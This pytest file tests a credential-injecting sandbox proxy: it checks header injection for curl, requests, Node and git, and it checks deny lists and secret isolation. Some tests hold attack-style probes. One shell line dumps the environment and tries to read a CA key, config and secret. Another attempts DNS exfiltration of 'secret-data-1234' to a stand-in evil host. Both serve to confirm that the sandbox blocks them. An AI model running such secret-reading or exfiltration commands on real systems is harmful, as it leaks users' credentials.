"""`authproxy sandbox run` (SPEC §5, §8): a command in a fresh sandbox whose only network path is
the proxy. Clients inside ignore proxy variables; capture is transparent (netns + nftables).

Some tests pin names with curl --resolve to an address that is never routed (203.0.113.0/24):
the connection is captured whatever it dials. Others go through the sandbox's own resolver.
Needs root (network namespaces, cgroups); skipped otherwise.
"""
import json
import os
import subprocess

import pytest

from conftest import header_rule

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="sandboxes need root")

NAME = "api.example.test"
PINNED = ["--resolve", "%s:443:203.0.113.7" % NAME]


def netns_count():
    out = subprocess.run(["ip", "netns", "list"], capture_output=True, text=True).stdout
    return sum(1 for line in out.splitlines() if line.startswith("authproxy-"))


def run_sandbox(stack, tmp_path, cmd, rules=(), secrets=None, access_control=None, timeout=None,
                extra=()):
    cfg = stack.config({"rules": list(rules), "access_control": access_control or {}},
                       secrets=secrets)
    path = tmp_path / "sandbox.json"
    path.write_text(json.dumps(cfg))
    os.chmod(path, 0o600)
    argv = [stack.binary, "sandbox", "run", "--config", str(path), "--state-dir",
            str(tmp_path / "state"), "--upstream-dns", stack.dns.addr]
    if timeout:
        argv += ["--timeout", str(timeout)]
    argv += list(extra) + ["--"] + cmd
    return subprocess.run(argv, capture_output=True, timeout=120)


def api_rule(hosts=(NAME,)):
    return header_rule("api", hosts, [("Authorization", "workspace_secret", "Bearer {KEY}")])


def test_curl_ignoring_proxy_variables_gets_the_credential_injected(stack, tmp_path):
    origin = stack.tls_origin(NAME)
    key = stack.secret()
    before = netns_count()
    p = run_sandbox(stack, tmp_path, ["curl", "-sS", "--noproxy", "*"] + PINNED +
                    ["https://%s/v1/models" % NAME],
                    rules=[api_rule()], secrets={"KEY": key})
    assert p.returncode == 0, p.stderr.decode()
    assert b"ok from api.example.test" in p.stdout
    [req] = origin.snapshot()
    assert req.values("Authorization") == ["Bearer " + key]
    assert key.encode() not in p.stdout + p.stderr
    assert netns_count() == before, "the sandbox's network namespace was left behind"


def test_python_requests_inside_the_sandbox_gets_the_credential(stack, tmp_path):
    origin = stack.tls_origin(NAME)
    key = stack.secret()
    script = ("import requests, socket\n"
              "orig = socket.getaddrinfo\n"
              "socket.getaddrinfo = lambda h, *a, **k: orig('203.0.113.7', *a, **k)\n"
              "s = requests.Session(); s.trust_env = False\n"
              "r = s.get('https://%s/py', timeout=10)\n"
              "print(r.status_code, r.text.strip())\n" % NAME)
    p = run_sandbox(stack, tmp_path, ["/usr/bin/python3", "-c", script], rules=[api_rule()],
                    secrets={"KEY": key})
    assert p.returncode == 0, p.stderr.decode()
    assert p.stdout.startswith(b"200 ")
    [req] = origin.snapshot()
    assert req.path == "/py" and req.values("Authorization") == ["Bearer " + key]


def test_a_denied_host_cannot_be_reached_and_nothing_arrives(stack, tmp_path):
    origin = stack.tls_origin("evil.example.test")
    p = run_sandbox(stack, tmp_path, ["curl", "-sS", "-m", "5", "--noproxy", "*",
                                      "--resolve", "evil.example.test:443:203.0.113.8",
                                      "https://evil.example.test/"],
                    access_control={"deny_list": ["evil.example.test"]})
    assert p.returncode != 0
    assert origin.snapshot() == []


def test_the_environment_and_files_hold_no_secret(stack, tmp_path):
    key = stack.secret()
    stack.tls_origin(NAME)
    script = ("env; cat /proc/self/environ; echo; "
              "ls -la %s 2>&1; cat %s/ca.key 2>&1; cat %s 2>&1; "
              "grep -rl -- '%s' /tmp /workspace /etc 2>/dev/null; true"
              % (tmp_path / "state", tmp_path / "state", tmp_path / "sandbox.json", key))
    os.environ["AUTHPROXY_TEST_LEAK"] = key  # the caller's environment must not leak in
    try:
        p = run_sandbox(stack, tmp_path, ["/bin/sh", "-c", script], rules=[api_rule()],
                        secrets={"KEY": key})
    finally:
        del os.environ["AUTHPROXY_TEST_LEAK"]
    assert p.returncode == 0, p.stderr.decode()
    assert key.encode() not in p.stdout, p.stdout.decode(errors="replace")
    assert b"AUTHPROXY_TEST_LEAK" not in p.stdout
    assert b"BEGIN" not in p.stdout, "the CA key or config is readable inside"
    assert b"SSL_CERT_FILE=/etc/ssl/certs/ca-certificates.crt" in p.stdout


def test_exit_status_and_output_are_relayed_exactly(stack, tmp_path):
    p = run_sandbox(stack, tmp_path, ["/bin/sh", "-c", "printf 'out\\000x'; printf err >&2; exit 7"])
    assert p.returncode == 7
    assert p.stdout == b"out\x00x"
    assert p.stderr.endswith(b"err") or b"err" in p.stderr


def test_timeout_kills_a_sleeping_command(stack, tmp_path):
    p = run_sandbox(stack, tmp_path, ["sleep", "60"], timeout=1)
    assert p.returncode == 124, p.stderr.decode()


def test_non_http_tcp_to_a_refused_address_is_closed(stack, tmp_path):
    # A raw TCP connection that is neither TLS nor HTTP, to an address no_proxy does not name.
    script = ("import socket\n"
              "s = socket.create_connection(('198.51.100.9', 5432), timeout=5)\n"
              "s.sendall(b'\\x00\\x00\\x00\\x08\\x04\\xd2\\x16\\x2f')\n"
              "print('got', s.recv(10))\n")
    p = run_sandbox(stack, tmp_path, ["/usr/bin/python3", "-c", script])
    assert b"got b''" in p.stdout or p.returncode != 0, p.stdout


def test_names_resolve_through_the_sandbox_resolver_and_are_captured(stack, tmp_path):
    origin = stack.tls_origin(NAME)
    key = stack.secret()
    p = run_sandbox(stack, tmp_path, ["curl", "-sS", "--noproxy", "*", "https://%s/dns" % NAME],
                    rules=[api_rule()], secrets={"KEY": key})
    assert p.returncode == 0, p.stderr.decode()
    [req] = origin.snapshot()
    assert req.path == "/dns" and req.values("Authorization") == ["Bearer " + key]


def test_dns_for_a_denied_name_is_refused_and_never_sent_upstream(stack, tmp_path):
    stack.dns.add_a("exfil.evil.example.test", "203.0.113.66")
    stack.dns.add_a("fine.example.test", "203.0.113.67")
    script = ("import socket\n"
              "for n in ('secret-data-1234.exfil.evil.example.test', 'fine.example.test'):\n"
              "    try:\n"
              "        print(n, socket.gethostbyname(n))\n"
              "    except OSError as e:\n"
              "        print(n, 'failed', e)\n")
    p = run_sandbox(stack, tmp_path, ["/usr/bin/python3", "-c", script],
                    access_control={"deny_list": ["*.evil.example.test"]})
    assert p.returncode == 0, p.stderr.decode()
    out = p.stdout.decode()
    assert "secret-data-1234.exfil.evil.example.test failed" in out, out
    assert "fine.example.test 203.0.113.67" in out, out
    assert not stack.dns.queried("secret-data-1234.exfil.evil.example.test")
    assert stack.dns.queried("fine.example.test")


def test_node_fetch_inside_the_sandbox_gets_the_credential(stack, tmp_path):
    origin = stack.tls_origin(NAME)
    key = stack.secret()
    script = ("fetch('https://%s/node').then(r => r.text())"
              ".then(t => { console.log(t.trim()); }).catch(e => { console.error(e); process.exit(1); })"
              % NAME)
    p = run_sandbox(stack, tmp_path, ["node", "-e", script], rules=[api_rule()],
                    secrets={"KEY": key})
    assert p.returncode == 0, p.stderr.decode()
    [req] = origin.snapshot()
    assert req.path == "/node" and req.values("Authorization") == ["Bearer " + key]
    assert key.encode() not in p.stdout + p.stderr


def test_git_clone_inside_the_sandbox_gets_the_credential(stack, tmp_path, git_repo):
    origin = stack.tls_origin("git.example.test", git=True)
    token = stack.secret("ghp-e2e")
    rule = header_rule("git", ["git.example.test"],
                       [("Authorization", "workspace_secret", "Bearer {GIT_TOKEN}")])
    p = run_sandbox(stack, tmp_path, ["git", "clone", "-q",
                                      "https://git.example.test/git/repo.git", "/workspace/clone"],
                    rules=[rule], secrets={"GIT_TOKEN": token})
    assert p.returncode == 0, p.stderr.decode()[-3000:]
    reqs = origin.snapshot()
    assert reqs and all(r.values("Authorization") == ["Bearer " + token] for r in reqs)
    assert token.encode() not in p.stdout + p.stderr
